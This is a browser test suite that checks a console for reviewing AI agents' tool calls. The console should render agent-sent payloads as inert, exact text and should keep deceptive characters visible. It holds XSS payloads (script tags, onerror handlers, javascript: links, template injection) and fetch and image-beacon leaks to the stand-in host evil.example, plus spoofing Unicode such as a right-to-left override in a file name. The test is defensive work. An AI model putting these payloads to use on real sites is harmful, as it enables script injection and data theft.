"""Nothing an agent sends acts on the page, hides from the reviewer, or is changed on the way to them."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.support import PATIENCE, Console, decide, link

pytestmark = pytest.mark.browser

ATTACKS = (
    # Each part would act wherever the whole is taken for markup; nothing of what comes before swallows it.
    '"><iframe srcdoc="<script>parent.alert(4)</script>"></iframe>'
    "<script>alert(1)</script>"
    "<img src=x onerror=alert(2)>"
    "<svg onload=alert(3)></svg>",
    "</textarea></pre></article><form action=https://evil.example><input></form>"
    "<img src='https://evil.example/leak.png'>"
    "<style>@import 'https://evil.example/x.css'; *{display:none}</style>",
    "javascript:alert(6)//<a href='javascript:alert(5)'>click</a>{{constructor.constructor('alert(7)')()}}",
)


def exact(page: Page) -> str:
    """The text of the payload as the page holds it."""
    return str(page.locator(".payload .json").text_content())


def post_raw(console: Console, payload: str) -> str:
    """A call whose payload is spelled exactly so; the id of its approval."""
    body = (
        '{"eventId":"raw","runId":"run-raw","agentId":"clerk","timestamp":"2026-01-31T09:30:00Z",'
        '"eventType":"tool.called","metadata":{"toolCallId":"raw","toolName":"payments.raw",'
        f'"inputPayload":{payload}}}}}'
    )
    answer = console.service.answered("agent", "POST", "/v1/events", raw=body)
    return str(answer["approvalId"])


def test_markup_is_only_text(console: Console) -> None:
    # Any dialog, error, violation of the policy, or request to another host fails the test by itself.
    page = console.reviewer()
    for attack in ATTACKS:
        check_markup(console, page, attack)


def check_markup(console: Console, page: Page, attack: str) -> None:
    payload: dict[str, Any] = {"hold": attack, attack: {attack: [attack, {"href": "javascript:alert(8)"}]}}
    console.post("run.started", {"task": attack}, run=attack, agent=attack)
    approval = console.hold(
        attack,
        payload,
        agent=attack,
        run=attack,
        reason=attack,
        agentContext={"goal": attack, "reasoning": attack, attack: attack},
    )
    page.goto(link(approval))
    expect(page.locator(".called .tool")).to_have_text(attack)
    sentence = console.approval(approval)["about"]["sentence"]
    expect(page.locator("#subject")).to_have_text(sentence[0].upper() + sentence[1:])
    assert json.loads(exact(page)) == payload
    main = page.get_by_role("main")
    assert main.locator("script, iframe, svg, style, object, embed, base, link, meta").count() == 0
    links = main.locator("a[href]").evaluate_all("(found) => found.map((each) => each.getAttribute('href'))")
    assert all(re.match(r"/(runs|policies)[/?][\w.%~=()'*!-]+$", each) for each in links), links
    assert main.locator("form").count() == 1
    sources = main.locator("img").evaluate_all("(found) => found.map((each) => each.getAttribute('src'))")
    assert set(sources) <= {"/console/icon.svg"}
    inline = (
        "(found) => found.some((each) => each.getAttributeNames().some((name) => /^on|^style$/.test(name)))"
    )
    assert not page.locator("*").evaluate_all(inline)
    page.get_by_label("Reason").fill(attack)
    decide(page, "Reject")
    expect(page.locator(".notice")).to_contain_text(attack)
    expect(page.get_by_role("heading", name="All clear")).to_be_focused()
    page.goto(link(approval))
    expect(page.locator("#ending blockquote")).to_have_text(attack)
    assert console.approval(approval)["decisionReason"] == attack


def test_the_policy_of_the_page_would_stop_what_slips_through(console: Console) -> None:
    console.expect_trouble(
        "violation", "Content Security Policy", "Failed to load", "Trusted", "another host"
    )
    page = console.reviewer()
    expect(page.get_by_role("heading", name="All clear")).to_be_visible()

    def violated(action: str) -> None:
        before = len(console.troubles)
        page.evaluate(f"() => {{ try {{ {action} }} catch {{}} }}")
        for _ in range(PATIENCE // 50):
            if any("violation" in trouble for trouble in console.troubles[before:]):
                return
            page.wait_for_timeout(50)
        raise AssertionError(action)

    violated("const s = document.createElement('script'); s.text = 'window.hit = 1'; document.body.append(s)")
    violated("document.body.innerHTML += '<b>markup</b>'")
    violated("fetch('https://evil.example/leak').catch(() => {})")
    violated("const i = new Image(); i.src = 'https://evil.example/leak.png'; document.body.append(i)")
    violated("document.body.setAttribute('style', 'color: red')")
    assert page.evaluate("window.hit") is None


def test_numbers_are_shown_as_they_were_sent(console: Console) -> None:
    numbers = [
        "9007199254740993",
        "-123456789012345678901234567890",
        "9007199254740992.0",
        "0.30000000000000004",
        "12000.50",
        "1E+2",
        "-0",
    ]
    approval = post_raw(console, '{"numbers": [' + ",".join(numbers) + "]}")
    page = console.reviewer(approval)
    expect(page.locator(".payload .number")).to_have_text(numbers)
    assert json.loads(exact(page), parse_int=str, parse_float=str)["numbers"] == numbers


def test_keys_are_shown_in_the_order_in_which_they_were_sent(console: Console) -> None:
    approval = post_raw(console, '{"b":1,"10":2,"2":3,"__proto__":{"x":4},"constructor":{"name":5},"":6}')
    page = console.reviewer(approval)
    expect(page.locator(".payload .json > .line > .key")).to_have_text(
        ['"b"', '"10"', '"2"', '"__proto__"', '"constructor"', '""']
    )


def test_keys_that_objects_have_by_themselves_are_shown_as_keys(console: Console) -> None:
    said = {"constructor": "one", "toString": "two"}
    page = console.reviewer(console.hold(agentContext=said))
    expect(page.locator(".words dt")).to_have_text(["constructor", "toString"])
    mail = {"to": "bob@corp.example", "subject": "Hi", "body": "x", "constructor": "y"}
    page = console.reviewer(console.hold(payload=mail, agent="mailer"))
    page.locator(".items button").filter(has_text="bob").click()
    expect(page.locator(".form.mail dt")).to_have_text(["To", "Subject", "constructor"])


HIDDEN = {
    "right-to-left override": "invoice\u202efdp.exe",
    "isolates": "a\u2066b\u2069",
    "zero width": "pay\u200bpal\u200d\ufeff",
    "soft hyphen": "co\u00adoperate",
    "tag characters": "hi\U000e0068\U000e0069",
    "variation selectors": "x\ufe0f\U000e0101",
    "code points that are kept for such characters": "a\u2065b\ufff0c\U000e0080d\U000e0fff",
    "what stands for an object": "a\ufffcb",
    "blanks that are no space": "a\u00a0b\u3000c\u2800d\u3164",
    "separators": "a\u2028b\u2029",
    "controls": "a\x1b[2Jb\x08\x7f\x85",
    "private use": "\ue000",
    "stacked marks": "z" + "\u0335" * 12,
}


def test_what_cannot_be_seen_is_spelled_out(console: Console) -> None:
    page = console.reviewer()
    for name, text in HIDDEN.items():
        check_hidden(console, page, name, text)


def check_hidden(console: Console, page: Page, name: str, text: str) -> None:
    approval = console.hold(payload={"hold": text}, agentContext={"goal": text.replace("\x1b", "")})
    page.goto(link(approval))
    expect(page.locator(".payload .hidden-character").first).to_be_visible()
    shown = exact(page)
    assert json.loads(shown) == {"hold": text}
    plain = page.locator("dd bdi").all_inner_texts()
    for character in text:
        if character.isascii() and character.isprintable():
            continue
        if name == "stacked marks":
            continue
        assert character not in shown, name
        assert not any(character in each for each in plain), name
    if name == "stacked marks":
        assert shown.count("\u0335") == 4
        assert shown.count("\\u0335") == 8


def test_right_to_left_text_keeps_to_itself(console: Console) -> None:
    approval = console.hold(payload={"to": "שלום עולם", "amount": 5})
    page = console.reviewer(approval)
    expect(page.locator(".form.payment")).to_contain_text("שלום עולם")
    page.keyboard.press("v")
    line = page.locator(".payload .line").first
    expect(line).to_be_visible()
    order = line.evaluate(
        """(node) => [".key", ".text"].map((part) => node.querySelector(part).getBoundingClientRect().left)"""
    )
    assert order[0] < order[1]


def test_text_with_lines_reads_as_lines_and_stays_exact(console: Console) -> None:
    body = 'Dear all,\n\nthe "numbers"\\n are\tattached.\n'
    approval = console.hold(payload={"body": body})
    page = console.reviewer(approval)
    expect(page.locator(".payload .newline")).to_have_text(["\\n"] * 3)
    assert json.loads(exact(page)) == {"body": body}


def test_a_long_payload_scrolls_in_its_box_by_keyboard_too(console: Console) -> None:
    payload = {"body": "word " * 20_000, "rows": [{"number": number} for number in range(500)], "last": "END"}
    approval = console.hold(payload=payload)
    page = console.reviewer(approval)
    box = page.locator(".payload")
    expect(box).to_be_visible()
    assert json.loads(exact(page)) == payload
    height = page.viewport_size["height"]  # type: ignore[index]
    assert box.evaluate("(node) => node.clientHeight") < height / 2
    assert box.evaluate("(node) => node.scrollHeight") > height
    box.focus()
    page.keyboard.press("End")
    expect(box.get_by_text('"END"')).to_be_in_viewport()
    expect(page.get_by_role("button", name="Approve", exact=True)).to_be_in_viewport()
    page.get_by_role("button", name=re.compile(r"^Show all 1\d\d,\d{3} characters$")).click()
    assert box.evaluate("(node) => node.clientHeight == node.scrollHeight")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_payload_of_very_many_values_is_shown_whole(console: Console) -> None:
    payload = {"numbers": list(range(19_000)), "mark": "\u202e"}
    approval = console.hold(payload=payload)
    page = console.reviewer(approval)
    expect(page.locator(".payload .json")).to_contain_text("18999")
    assert json.loads(exact(page)) == payload
    expect(page.locator(".payload .hidden-character")).to_have_count(1)


def test_a_deep_payload_is_shown_whole(console: Console) -> None:
    payload: Any = "bottom"
    for _ in range(50):
        payload = {"in": [payload]} if _ % 9 == 0 else {"in": payload}
    payload = {"hold": payload}
    approval = console.hold(payload=payload)
    page = console.reviewer(approval)
    expect(page.locator(".payload .json")).to_contain_text("bottom")
    assert json.loads(exact(page)) == payload


def test_the_copied_payload_is_the_exact_one(console: Console) -> None:
    approval = post_raw(console, '{"n": 9007199254740993, "t": "a\\u202eb"}')
    page = console.page(permissions=["clipboard-read", "clipboard-write"])
    console.log_in(page, place=link(approval))
    page.get_by_role("button", name="Copy").click()
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied == '{\n  "n": 9007199254740993,\n  "t": "a\u202eb"\n}'
